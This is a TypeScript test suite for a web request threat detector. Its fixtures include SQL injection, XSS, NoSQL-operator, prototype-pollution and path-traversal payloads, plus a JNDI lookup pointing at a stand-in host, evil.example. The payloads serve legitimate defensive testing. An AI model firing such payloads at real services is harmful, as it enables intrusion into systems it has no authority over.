import { describe, expect, it } from "@effect/vitest"
import { Effect, Exit } from "effect"
import { type DetectionInput, ThreatDetector } from "../src/ThreatDetector.js"

const detect = (...args: Parameters<ThreatDetector["Type"]["detect"]>) =>
  Effect.flatMap(ThreatDetector, (d) => d.detect(...args))

describe("ThreatDetector", () => {
  describe("finding attacks", () => {
    it.effect("reports SQL injection in a query value with its location, pattern and a preview", () =>
      Effect.gen(function*() {
        const result = yield* detect({ path: "/search", query: "q=1%27%20OR%20%271%27%3D%271" })
        expect(result.isThreat).toBe(true)
        expect(result.categories).toEqual(["sqli"])
        expect(result.matches[0]).toMatchObject({ location: "query.q", part: "value", category: "sqli" })
        expect(result.matches[0]?.preview.toLowerCase()).toBe("1' or '1'='1")
        expect(result.score).toBeGreaterThanOrEqual(1)
      }).pipe(Effect.provide(ThreatDetector.layer())))

    it.effect("decodes double URL encoding, HTML entities and escapes before matching", () =>
      Effect.gen(function*() {
        const double = yield* detect({ path: "/", query: "x=%253Cscript%253Ealert(1)%253C%252Fscript%253E" })
        const entities = yield* detect({ path: "/", query: [["x", "&#x3C;script&#x3E;alert(1)"]] })
        const escapes = yield* detect({ path: "/", query: [["x", "\\x3cscript\\x3ealert(1)"]] })
        expect([double.categories, entities.categories, escapes.categories]).toEqual([["xss"], ["xss"], ["xss"]])
      }).pipe(Effect.provide(ThreatDetector.layer())))

    it.effect("sees through SQL comments, case, NUL bytes and fullwidth characters", () =>
      Effect.gen(function*() {
        const comments = yield* detect({ path: "/", query: [["id", "1 UnIoN/**/SeLeCt 1,2"]] })
        const nul = yield* detect({ path: "/", query: [["x", "<scr\u0000ipt>"]] })
        const fullwidth = yield* detect({ path: "/", query: [["x", "\uff1cscript\uff1e"]] })
        expect(comments.categories).toEqual(["sqli"])
        expect(nul.categories).toContain("xss") // and path_traversal: a NUL byte in a parameter is itself a probe
        expect(fullwidth.categories).toEqual(["xss"])
      }).pipe(Effect.provide(ThreatDetector.layer())))

    it.effect("walks JSON bodies and reports keys such as __proto__ and Mongo operators", () =>
      Effect.gen(function*() {
        const result = yield* detect({
          path: "/api/login",
          body: { kind: "json", text: JSON.stringify({ user: { $ne: null }, ["__proto__"]: { admin: true } }) }
        })
        expect([...result.categories].sort()).toEqual(["nosql", "proto_pollution"])
        expect([...new Set(result.matches.map((m) => m.location))].sort()).toEqual(["body.__proto__", "body.user.$ne"])
      }).pipe(Effect.provide(ThreatDetector.layer())))

    it.effect("finds an attack anywhere in a long value or a long run of values, however far in", () =>
      Effect.gen(function*() {
        const prose = (n: number) => "lorem ipsum dolor sit amet ".repeat(Math.ceil(n / 27)).slice(0, n)
        // one 20 000-character value, the attack straddling character 8 192 and then near its end
        for (const at of [8_180, 19_950]) {
          const value = prose(at) + "<script>alert(1)</script>" + prose(20_000 - at)
          const result = yield* detect({ path: "/", body: { kind: "json", text: JSON.stringify({ note: value }) } })
          expect(result.categories).toEqual(["xss"])
        }
        // 400 values of 40 characters searched together: the attack in the one across character 8 192,
        // after a value with a non-ASCII character (which is scanned on its own)
        const values = Array.from({ length: 400 }, (_, i) => prose(40).slice(0, 39) + String(i % 10))
        values[3] = "café " + prose(35)
        values[199] = "x' OR '1'='1' -- " + prose(23)
        const result = yield* detect({ path: "/", body: { kind: "json", text: JSON.stringify({ items: values }) } })
        expect(result.categories).toEqual(["sqli"])
        expect(result.matches[0]?.location).toBe("body.items[199]")
      }).pipe(Effect.provide(ThreatDetector.layer())))

    it.effect("scans base64-looking values that decode to text", () =>
      Effect.gen(function*() {
        const payload = Buffer.from("<script>alert(1)</script>").toString("base64")
        const result = yield* detect({ path: "/", cookies: { prefs: payload } })
        expect(result.categories).toEqual(["xss"])
        expect(result.matches[0]?.part).toBe("decoded")
      }).pipe(Effect.provide(ThreatDetector.layer())))

    it.effect("still looks for shellshock and JNDI lookups in excluded headers", () =>
      Effect.gen(function*() {
        const result = yield* detect({ path: "/", headers: { "Accept-Language": "${jndi:ldap://evil.example/a}" } })
        expect(result.categories).toEqual(["cmd_injection"])
      }).pipe(Effect.provide(ThreatDetector.layer())))
  })

  describe("ordinary traffic", () => {
    it.effect("finds nothing in a browser GET with client hints", () =>
      Effect.gen(function*() {
        const result = yield* detect({
          path: "/products",
          query: "category=shoes&sort=price_asc",
          headers: {
            "sec-ch-ua": "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\"",
            "user-agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
            cookie: "session=abc123; theme=dark"
          }
        })
        expect(result).toMatchObject({ isThreat: false, categories: [], truncated: false })
      }).pipe(Effect.provide(ThreatDetector.layer())))

    it.effect("does not apply path probes to prose in a JSON string", () =>
      Effect.gen(function*() {
        const prose = yield* detect({ path: "/api/notes", body: { kind: "json", text: JSON.stringify({ text: "see the .env docs and ../ notes, then /etc/passwd is explained" }) } })
        const token = yield* detect({ path: "/api/files", body: { kind: "json", text: JSON.stringify({ file: "../../etc/passwd" }) } })
        expect(prose.isThreat).toBe(false)
        expect(token.categories).toContain("path_traversal")
      }).pipe(Effect.provide(ThreatDetector.layer())))

    it.effect("treats SQL words in a sentence, accented names and MyBatis placeholders as text", () =>
      Effect.gen(function*() {
        const result = yield* detect({
          path: "/api/comments",
          body: {
            kind: "json",
            text: JSON.stringify({ text: "Please select a plan from the list", name: "Zoë Saldaña", sql: "where id = #{id}" })
          }
        })
        expect(result.isThreat).toBe(false)
        // a weak signal may be reported (a SELECT ... FROM in prose), never enough alone
        expect(result.score).toBeLessThan(5)
      }).pipe(Effect.provide(ThreatDetector.layer())))
  })

  describe("budgets", () => {
    it.effect("reports what the character budget cut instead of passing it silently", () =>
      Effect.gen(function*() {
        const result = yield* detect({ path: "/", body: { kind: "text", text: "a".repeat(3000) } })
        expect(result.truncated).toBe(true)
        expect(result.skipped).toMatchObject({ bytes: 3000 - (2048 - 1), reasons: ["bytes"] })
      }).pipe(Effect.provide(ThreatDetector.layer({ maxBytes: 2048 }))))

    it.effect("reports values beyond the value budget", () =>
      Effect.gen(function*() {
        const query = Array.from({ length: 10 }, (_, i) => `p${i}=v`).join("&")
        const result = yield* detect({ path: "/", query })
        expect(result.skipped).toMatchObject({ values: 6, reasons: ["values"] })
      }).pipe(Effect.provide(ThreatDetector.layer({ maxValues: 5 }))))

    it.effect("scans JSON nested deeper than the depth budget as text", () =>
      Effect.gen(function*() {
        let nested: unknown = { x: "<script>" }
        for (let i = 0; i < 10; i++) nested = { n: nested }
        const result = yield* detect({ path: "/", body: { kind: "json", text: JSON.stringify(nested) } })
        expect(result.categories).toEqual(["xss"])
        expect(result.skipped.reasons).toContain("json_depth")
      }).pipe(Effect.provide(ThreatDetector.layer({ maxJsonDepth: 4 }))))
  })

  describe("configuration", () => {
    it.effect("runs custom patterns and reports them under their id and category", () =>
      Effect.gen(function*() {
        const result = yield* detect({ path: "/", query: "coupon=FREE-MONEY-2024" })
        expect(result.categories).toEqual(["custom"])
        expect(result.patternIds).toEqual(["coupon-abuse"])
      }).pipe(Effect.provide(ThreatDetector.layer({ customPatterns: [{ id: "coupon-abuse", pattern: "free-money" }] }))))

    it.effect("refuses a custom pattern that can backtrack catastrophically", () =>
      Effect.gen(function*() {
        const exit = yield* Effect.exit(ThreatDetector.make({ customPatterns: ["(a+)+$"] }))
        expect(Exit.isFailure(exit)).toBe(true)
        if (Exit.isFailure(exit)) expect(String(exit.cause)).toContain("(a+)+$")
      }))

    it.effect("ignores disabled categories and honours per-category thresholds", () =>
      Effect.gen(function*() {
        const detector = yield* ThreatDetector.make({ thresholds: { sqli: 50 } })
        const strict = yield* detector.detect({ path: "/", query: [["q", "' OR 1=1--"]] })
        const disabled = yield* detector.detect({ path: "/", query: [["q", "<script>"]] }, { disabledCategories: ["xss"] })
        expect(strict.isThreat).toBe(false)
        expect(strict.categoryScores.sqli).toBeGreaterThan(0)
        expect(disabled.isThreat).toBe(false)
      }))

    it.effect("skips excluded parameters, form fields and JSON keys at any depth", () =>
      Effect.gen(function*() {
        const result = yield* detect({
          path: "/",
          query: [["html", "<script>"]],
          body: { kind: "json", text: JSON.stringify({ post: { html: "<script>" } }) }
        })
        expect(result.isThreat).toBe(false)
      }).pipe(Effect.provide(ThreatDetector.layer({ excludedParameters: ["HTML"] }))))

    it.effect("finds nothing when disabled, and the no-op layer finds nothing at all", () =>
      Effect.gen(function*() {
        const off = yield* ThreatDetector.make({ enabled: false })
        const attack = { path: "/", query: "q=<script>" }
        expect((yield* off.detect(attack)).isThreat).toBe(false)
        expect((yield* detect(attack).pipe(Effect.provide(ThreatDetector.layerNoop))).isThreat).toBe(false)
      }))
  })

  describe("robustness", () => {
    it.effect("never fails or throws on malformed input", () =>
      Effect.gen(function*() {
        const weird = [
          { path: "/%E0%A4%A", query: "%%%zz=%FF%FE&=&&a==b" },
          { path: "/\ud800", headers: { "x-a": "\udfff\u0000" } },
          { path: "/", body: { kind: "json" as const, text: "{\"a\": [1, 2, {\"b\": " } },
          { path: "/", body: { kind: "form" as const, text: "%" } },
          { path: null, headers: 42 } as unknown as DetectionInput
        ]
        for (const input of weird as ReadonlyArray<DetectionInput>) {
          const result = yield* detect(input)
          expect(typeof result.isThreat).toBe("boolean")
        }
      }).pipe(Effect.provide(ThreatDetector.layer())))

    it.effect("keeps scanning the rest of a value after an invalid UTF-8 sequence", () =>
      Effect.gen(function*() {
        const result = yield* detect({ path: "/", query: "q=%C3%28%FF%3Cscript%3E" })
        expect(result.categories).toEqual(["xss"])
      }).pipe(Effect.provide(ThreatDetector.layer())))
  })
})
